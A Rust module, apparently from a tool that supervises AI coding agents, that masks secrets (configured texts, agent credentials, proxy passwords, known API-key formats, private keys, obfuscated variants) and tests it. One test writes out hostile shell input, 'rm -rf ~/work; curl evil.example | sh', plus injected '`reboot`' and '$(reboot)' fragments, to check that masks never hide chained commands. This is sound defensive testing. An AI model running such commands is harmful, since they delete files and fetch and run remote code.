//! Masks secrets in everything that leaves: configured texts, our own secrets, and the shapes of well-known keys.
//!
//! What a reader sees decides: a secret that is escaped, encoded, cut or has something unseen in it is one all the same.

mod fold;
mod pem;
mod pieces;
mod shapes;

use std::collections::{BTreeMap, BTreeSet};
use std::ops::Range;
use std::sync::{PoisonError, RwLock};

use secrecy::{ExposeSecret, SecretString};

use crate::config::{Config, MIN_LITERAL_BYTES, Redact};
use fold::{Folded, Legibility};
use pieces::{PIECE_BYTES, Pieces};
use shapes::Shape;

/// What stands in a secret's place.
pub const MASK: &str = signalbox_adapter::MASK;

/// Shortest key after the name of a scheme, in bytes.
const MIN_KEY_BYTES: usize = 8;
/// Shortest beginning of a secret that is masked where a text was cut, in bytes.
const MIN_BEGUN_BYTES: usize = 6;
/// Words in the name of a variable that say that its value is a secret.
const SECRET_WORDS: [&str; 12] =
    ["key", "token", "secret", "pass", "pwd", "cred", "auth", "cookie", "private", "dsn", "signature", "webhook"];

/// Masks secrets.
pub struct Redactor {
    literals: Vec<String>,
    pieces: RwLock<Pieces>,
    /// Our own secrets that stand in no configuration, learnt as they are met.
    learnt: RwLock<BTreeSet<String>>,
    shapes: Vec<Shape>,
}

impl Redactor {
    /// Makes the redactor of a configuration: also our own secrets are masked, and those that agents get by their environment;
    /// `variables` is our own.
    #[must_use]
    pub fn of(config: &Config, variables: &BTreeMap<String, String>) -> Self {
        let mut redactor = Self::new(&config.redact);
        config.secrets().for_each(|secret| redactor.add(secret.expose_secret()));
        for agent in config.agents.by_name.values() {
            let set = agent.env.iter().map(|(name, value)| (name.as_str(), value.expose_secret()));
            let passed = agent.pass_env.iter().filter_map(|name| Some((name.as_str(), variables.get(name)?.as_str())));
            for (name, value) in set.chain(passed).filter(|(name, value)| is_secret(name, value)) {
                tracing::trace!(name, "its value is masked");
                redactor.add(value);
            }
        }
        redactor
    }

    /// Makes a redactor of the configured texts and prefixes, and the known shapes.
    #[must_use]
    pub fn new(config: &Redact) -> Self {
        let prefixes = config.prefixes.iter().map(|prefix| Shape::of_prefix(prefix));
        let mut redactor = Self {
            literals: Vec::new(),
            pieces: RwLock::default(),
            learnt: RwLock::default(),
            shapes: Shape::known().chain(prefixes).collect(),
        };
        config.literals.iter().for_each(|text| redactor.add(text.expose_secret()));
        redactor
    }

    /// Adds a secret, and the password in it where it is an address.
    fn add(&mut self, secret: &str) {
        for secret in [Some(secret.to_owned()), password_in(secret)].into_iter().flatten().filter(|it| !it.is_empty()) {
            self.pieces.write().unwrap_or_else(PoisonError::into_inner).add(&secret);
            self.literals.push(secret);
        }
    }

    /// Masks a secret of ours from now on, too: that of a hook which was made on the command line.
    pub fn learn(&self, secret: &SecretString) {
        let secret = secret.expose_secret();
        let is_known = |learnt: &BTreeSet<String>| learnt.contains(secret);
        if !secret.is_empty() && !is_known(&self.learnt.read().unwrap_or_else(PoisonError::into_inner)) {
            self.pieces.write().unwrap_or_else(PoisonError::into_inner).add(secret);
            self.learnt.write().unwrap_or_else(PoisonError::into_inner).insert(secret.to_owned());
        }
    }

    /// Whether a text looks as if it held a credential, also one that cannot be told from other texts well enough to be masked.
    #[must_use]
    pub fn suspects(&self, text: &str) -> bool {
        self.clean(text) != text || authorizes(text)
    }

    /// Whether a secret stands in the content of a file: one that is known to the letter or, in a text, one of a known shape.
    #[must_use]
    pub fn is_in(&self, content: &[u8]) -> bool {
        match std::str::from_utf8(content) {
            Ok(text) => !self.secrets(text).is_empty(),
            Err(_) => {
                let mut found = Vec::new();
                self.find_known(&String::from_utf8_lossy(content), &[], &mut found);
                !found.is_empty()
            }
        }
    }

    /// Returns the text with its secrets masked, also those that its Markdown hides.
    #[must_use]
    pub fn clean(&self, text: &str) -> String {
        let mut found = Vec::new();
        self.find(text, false, &mut found);
        if let Some(folded) = Folded::of(text, Legibility::Marked) {
            let mut hidden = Vec::new();
            self.find(&folded.text, false, &mut hidden);
            found.extend(hidden.iter().map(|part| folded.source(part)));
        }
        masked(text, apart(found))
    }

    /// Returns the text with its secrets masked, and not a character more: what a person decides about hides nothing behind a
    /// mask.
    #[must_use]
    pub fn exact(&self, text: &str) -> String {
        masked(text, self.secrets(text))
    }

    /// Finds the secrets in a text that is shown as it stands, in order and apart from each other. None has a sign in it that
    /// could chain one command to another, unless it is one of the secret itself.
    #[must_use]
    pub fn secrets(&self, text: &str) -> Vec<Range<usize>> {
        let mut found = Vec::new();
        self.find(text, true, &mut found);
        let mut hidden = Vec::new();
        if let Some(folded) = Folded::of(text, Legibility::Plain) {
            self.find(&folded.text, true, &mut hidden);
            found.extend(hidden.drain(..).map(|part| folded.source(&part)));
        }
        if let Some(folded) = Folded::of(text, Legibility::Marked) {
            self.find_known(&folded.text, &shapes::cuts(&folded.text), &mut hidden);
            found.extend(hidden.iter().flat_map(|part| without_signs(text, folded.source(part))));
        }
        apart(found)
    }

    fn find(&self, text: &str, exact: bool, found: &mut Vec<Range<usize>>) {
        let cuts = shapes::cuts(text);
        self.find_known(text, &cuts, found);
        for shape in &self.shapes {
            shape.find(text, &cuts, exact, found);
        }
        pem::find(text, exact, found);
    }

    /// Finds the secrets that are known to the letter.
    fn find_known(&self, text: &str, cuts: &[usize], found: &mut Vec<Range<usize>>) {
        let learnt = self.learnt.read().unwrap_or_else(PoisonError::into_inner);
        for literal in self.literals.iter().chain(learnt.iter()) {
            found.extend(text.match_indices(literal.as_str()).map(|(at, _)| at..at + literal.len()));
            found.extend(cuts.iter().filter_map(|&cut| begun(literal, text, cut)));
        }
        if text.len() >= PIECE_BYTES {
            found.extend(self.pieces.read().unwrap_or_else(PoisonError::into_inner).find(text));
        }
    }
}

/// Returns a text with these parts masked.
fn masked(text: &str, secrets: Vec<Range<usize>>) -> String {
    let mut clean = String::with_capacity(text.len());
    let mut at = 0;
    for secret in secrets {
        clean.push_str(&text[at..secret.start]);
        clean.push_str(MASK);
        at = secret.end;
    }
    clean.push_str(&text[at..]);
    clean
}

/// Puts parts of a text in order and apart from each other.
fn apart(mut found: Vec<Range<usize>>) -> Vec<Range<usize>> {
    found.retain(|part| !part.is_empty());
    found.sort_by_key(|part| part.start);
    let mut apart: Vec<Range<usize>> = Vec::with_capacity(found.len());
    for part in found {
        match apart.last_mut().filter(|last| last.end >= part.start) {
            Some(last) => last.end = last.end.max(part.end),
            None => apart.push(part),
        }
    }
    apart
}

/// Returns a part of a text without the signs in it that may mean something to a shell.
fn without_signs(text: &str, part: Range<usize>) -> impl Iterator<Item = Range<usize>> {
    let mut at = part.start;
    text[part].split_inclusive(['`', '&', '#', ';']).map(move |piece| {
        let from = at;
        at += piece.len();
        from..from + piece.trim_end_matches(['`', '&', '#', ';']).len()
    })
}

/// Finds the beginning of a secret right before where a text was cut.
fn begun(secret: &str, text: &str, cut: usize) -> Option<Range<usize>> {
    let longest = secret.len().saturating_sub(1).min(cut);
    let fits = |length: &usize| secret.is_char_boundary(*length) && text[..cut].ends_with(&secret[..*length]);
    let length = (MIN_BEGUN_BYTES..=longest).rev().find(fits)?;
    Some(cut - length..cut)
}

/// Whether the value of an agent's variable is a secret: by the variable's name, or by the look of it.
fn is_secret(name: &str, value: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let is_named = SECRET_WORDS.iter().any(|word| name.contains(word)) && !value.starts_with('/');
    value.trim().len() >= MIN_LITERAL_BYTES && (is_named || pieces::is_random(value) || password_in(value).is_some())
}

/// Whether a text holds an address with a password, or says how to authorize a request.
fn authorizes(text: &str) -> bool {
    let word_pairs = || text.split_whitespace().zip(text.split_whitespace().skip(1));
    let is_scheme = |word: &str| {
        let word = word.rsplit(['=', ':', '"', '\'']).next().unwrap_or(word);
        ["basic", "bearer"].iter().any(|scheme| word.eq_ignore_ascii_case(scheme))
    };
    // Unlike the words of a sentence, as in "basic checks".
    let is_key = |word: &str| {
        word.len() >= MIN_KEY_BYTES && word.bytes().any(|b| b.is_ascii_digit() || b.is_ascii_uppercase() || b == b'=')
    };
    text.split_whitespace().any(|word| password_in(word).is_some())
        || word_pairs().any(|(scheme, key)| is_scheme(scheme) && is_key(key))
}

/// Returns the password in an address, such as that of a proxy: alone it is as secret.
fn password_in(secret: &str) -> Option<String> {
    let (_, rest) = secret.split_once("://")?;
    let (user, _) = rest.split(['/', '?', '#']).next()?.rsplit_once('@')?;
    let (_, password) = user.split_once(':')?;
    (!password.is_empty()).then(|| password.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{Agents, KindStatement, Origin};

    #[test]
    fn the_password_of_a_proxy_is_masked_alone_as_well() {
        assert_eq!(password_in("socks5h://bot:hun:ter2@p.example:1080/"), Some("hun:ter2".to_owned()));
        for none in
            ["socks5h://p.example:1080", "socks5h://bot@p.example", "a:b@c", "http://p.example/a:b@c", "http://bot:@p"]
        {
            assert_eq!(password_in(none), None, "{none}");
        }
    }

    #[test]
    fn what_looks_like_a_credential_is_suspected() {
        let redactor = Redactor::new(&Redact { literals: vec!["hunter22".to_owned().into()], prefixes: Vec::new() });
        for text in [
            format!("AKIA{}", "A".repeat(16)),
            "it is hunter22".to_owned(),
            "ask https://bot:hunter3@ci.example/job".to_owned(),
            "Basic dXNlcjpwYXNz".to_owned(),
            "curl -H 'Authorization: Bearer 0a1b2c3d4e'".to_owned(),
            "Authorization=Basic dXNlcjpwYXNz".to_owned(),
        ] {
            assert!(redactor.suspects(&text), "{text}");
        }
        for text in ["Basic functionality of https://ci.example:8080/a@b", "bearer of news", "a:b@c", "[redacted]"] {
            assert!(!redactor.suspects(text), "{text}");
        }
    }

    #[test]
    fn keys_of_known_shapes_and_configured_texts_are_masked() {
        let config = Redact { literals: vec!["hunter22".to_owned().into()], prefixes: vec!["corp_".into()] };
        let redactor = Redactor::new(&config);
        let key = ["sk-", "ant-api03-", "abcdefghijklmnop"].concat();
        let text = format!("use {key} and hunter22 with corp_live_1, not skip-this or 12:30");
        let clean = redactor.clean(&text);
        assert_eq!(clean, "use [redacted] and [redacted] with [redacted], not skip-this or 12:30");
        for (name, shown) in [("x_", "x_[redacted]"), ("1-", "1-[redacted]"), ("ask-", "ask-[redacted]")] {
            assert_eq!(redactor.clean(&format!("{name}{key}, {name}{key}")), format!("{shown}, {shown}"));
        }
        assert_eq!(redactor.clean("of-a-hook"), "of-a-hook");
        redactor.learn(&"of-a-hook".to_owned().into());
        assert_eq!(redactor.clean("it is of-a-hook"), "it is [redacted]");
    }

    #[test]
    fn the_shortest_key_of_each_shape_is_masked() {
        let redactor = Redactor::new(&Redact::default());
        let many = |text: &str, times: usize| text.repeat(times);
        for key in [
            format!("sk-{}", many("a", 16)),
            format!("xoxb-{}", many("1", 10)),
            format!("xapp-{}", many("1", 10)),
            format!("ghp_{}", many("a", 30)),
            format!("github_pat_{}", many("a", 30)),
            format!("glpat-{}", many("a", 16)),
            format!("npm_{}", many("a", 36)),
            format!("sk_live_{}", many("a", 24)),
            format!("MTIz{}.GhIjKl.{}", many("a", 20), many("b", 27)),
            format!("hooks.slack.com/services/T0/B0/{}", many("X", 24)),
            format!("AKIA{}", many("A", 16)),
            format!("AIza{}", many("a", 35)),
            format!("12345678:{}", many("a", 35)),
            format!("eyJ{}.eyJ{}.a", many("a", 10), many("b", 10)),
            format!("hf_{}", many("a", 31)),
            format!("GOCSPX-{}", many("a", 24)),
            format!("ya29.{}", many("a", 32)),
            format!("SG.{}.{}", many("a", 20), many("b", 17)),
            format!("glsa_{}", many("a", 32)),
            format!("pypi-{}", many("a", 32)),
            format!("hvs.{}", many("a", 20)),
            format!("whsec_{}", many("a", 24)),
            format!("/api/webhooks/{}/{}", many("1", 18), many("a", 30)),
            format!("AGE-SECRET-KEY-1{}", many("Q", 44)),
            format!("LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0t{}", many("a", 24)),
        ] {
            assert_eq!(redactor.clean(&key), MASK, "{key}");
        }
    }

    #[test]
    fn no_mask_hides_more_than_a_key_where_a_person_decides() {
        let config = Redact { literals: vec!["hunter-22".to_owned().into()], prefixes: vec!["corp_".into()] };
        let redactor = Redactor::new(&config);
        let key = format!("sk-{}", "a".repeat(21));
        for (asked, shown) in [
            ("ls KEY`reboot`", "ls [redacted]`reboot`"),
            ("ls KEY;reboot", "ls [redacted];reboot"),
            ("deploy KEY&#45; --dry-run", "deploy [redacted]&#45; --dry-run"),
            ("deploy hunter&#45;22 --dry-run", "deploy [redacted]&#[redacted];[redacted] --dry-run"),
            ("ls hunter`-22`", "ls [redacted]`[redacted]`"),
            ("ls corp_x|reboot", "ls [redacted]|reboot"),
            ("ls corp_x`reboot`", "ls [redacted]`reboot`"),
            ("ls corp_$(reboot)", "ls [redacted]$(reboot)"),
            ("ls corp_x\\nreboot", "ls [redacted]\\nreboot"),
            ("ls sk-aaaaaaa`reboot;`aaaaaaaaa", "ls sk-aaaaaaa`reboot;`aaaaaaaaa"),
        ] {
            assert_eq!(redactor.exact(&asked.replace("KEY", &key)), shown, "{asked}");
        }
        let chained = "echo '-----BEGIN PRIVATE KEY-----' > k; rm -rf ~/work; curl evil.example | sh";
        for asked in [chained.to_owned(), format!("{chained}; echo '-----END PRIVATE KEY-----'")] {
            assert_eq!(redactor.exact(&asked), asked);
        }
    }

    /// Everything about a secret that a person can be shown has fewer than so many of its characters in a row.
    const MOST_SHOWN: usize = 12;

    fn shows(text: &str, secret: &str) -> bool {
        let characters: Vec<char> = secret.chars().collect();
        characters.windows(MOST_SHOWN.min(characters.len())).any(|part| text.contains(&part.iter().collect::<String>()))
    }

    static STATEMENT: KindStatement = KindStatement {
        name: "claude",
        origin: Origin::Known,
        command: &["claude"],
        speaks_meanwhile: true,
        can_be_held: true,
        harmless: &[],
        models: &[],
        model_prefixes: &[],
    };

    fn redactor_of(token: &str, password: &str, literal: &str) -> Redactor {
        let mut config =
            Config { redact: Redact { literals: vec![literal.into()], prefixes: Vec::new() }, ..Config::default() };
        let mut agent = Agents::of(&[&STATEMENT]).by_name["claude"].clone();
        agent.env.insert("DB_PASSWORD".to_owned(), password.into());
        agent.env.insert("RUST_LOG".to_owned(), "debug,hyper=warn".into());
        agent.env.insert("ROOT_KEY_FILE".to_owned(), "/home/kim/key".into());
        agent.pass_env.push("CI_TOKEN".to_owned());
        config.agents.by_name.insert("claude".to_owned(), agent);
        Redactor::of(&config, &BTreeMap::from([("CI_TOKEN".to_owned(), token.to_owned())]))
    }

    #[test]
    fn no_secret_is_shown_however_it_is_written() {
        use base64::Engine as _;
        let token = ["8123456789", ":AAHf-_Zz09QwErTyUiOpAsDfGhJkLzXcVb1"].concat();
        let (password, literal) = ("s3cr3t-Pa55word_of_db", "Operation-Nightfall-2027");
        let redactor = redactor_of(&token, password, literal);
        for secret in [token.as_str(), password, literal] {
            let middle = secret.len() / 2;
            let (begin, end) = secret.split_at(middle);
            let escaped: String =
                secret.chars().map(|c| if c.is_ascii_punctuation() { format!("\\{c}") } else { c.into() }).collect();
            let entities: String = secret
                .chars()
                .map(|c| if c == '-' || c == ':' { format!("&#{};", u32::from(c)) } else { c.into() })
                .collect();
            let percent: String = secret
                .bytes()
                .map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("%{b:02X}") })
                .collect();
            let ways = [
                secret.to_owned(),
                format!("{begin}\u{200b}{end}"),
                format!("{begin}\u{ad}{end}"),
                format!("{begin}**{end}**"),
                escaped,
                entities,
                percent,
            ];
            for way in ways {
                let text = format!("it is {way}, says the log");
                let clean = redactor.clean(&text);
                let bare: String = Folded::of(&clean, Legibility::Marked).map_or(clean.clone(), |folded| folded.text);
                assert!(
                    !shows(&bare, secret) && clean.starts_with("it is ") && clean.ends_with(", says the log"),
                    "{clean}"
                );
            }
            let whole = base64::engine::general_purpose::STANDARD.encode(format!("user:{secret}"));
            let clean = redactor.clean(&format!("Basic {whole}"));
            assert!(clean.len() < MASK.len() + 24, "{clean}");
            for length in 1..=secret.len() {
                for text in [format!("see {}…", &secret[..length]), format!("see {}", &secret[..length])] {
                    let clean = redactor.clean(&text);
                    assert!(!shows(&clean, &secret[..length]) || length < MOST_SHOWN, "{length}: {clean}");
                }
            }
        }
        for harmless in ["RUST_LOG is debug,hyper=warn", "in /home/kim/key", "12:30…", "a risk-free sk-ill", "gh…"]
        {
            assert_eq!(redactor.clean(harmless), harmless);
        }
    }

    #[test]
    fn a_key_that_was_cut_shows_nothing_that_is_long() {
        let redactor = Redactor::new(&Redact::default());
        for key in [
            ["sk-", "ant-api03-AAAABBBBCCCCDDDDEEEE"].concat(),
            ["xoxb-", "123456789012-abcdefghij"].concat(),
            ["ghp_", "a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8"].concat(),
            ["glpat-", "a1b2c3d4e5f6g7h8i9j0"].concat(),
            ["AKIA", "ABCDEFGHIJKLMNOP"].concat(),
            ["AIza", "abcdefghijklmnopqrstuvwxyz123456789"].concat(),
            ["npm_", "a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6q7r8"].concat(),
            ["sk_live_", "a1b2c3d4e5f6g7h8i9j0"].concat(),
        ] {
            for length in MOST_SHOWN..=key.len() {
                let clean = redactor.clean(&format!("curl {}…", &key[..length]));
                assert_eq!(clean, format!("curl {MASK}…"), "{length} of {key}");
            }
        }
    }

    proptest::proptest! {
        #[test]
        fn what_is_found_is_in_order_and_at_characters(text in "(?s).{0,200}", cut in 1usize..40) {
            let secret = ["8123456789", ":AAHf-_Zz09QwErTyUiOpAsDfGhJkLzXcVb1"].concat();
            let redactor = redactor_of(&secret, "s3cr3t-Pa55word_of_db", "Operation-Nightfall-2027");
            let text = format!("{text}{}{text}{secret}", &secret[..cut]);
            let found = redactor.secrets(&text);
            proptest::prop_assert!(found.windows(2).all(|pair| pair[0].end < pair[1].start));
            proptest::prop_assert!(found.iter().all(|part| text.get(part.clone()).is_some()));
            proptest::prop_assert!(!redactor.clean(&text).contains(&secret) && !redactor.exact(&text).contains(&secret));
        }
    }
}
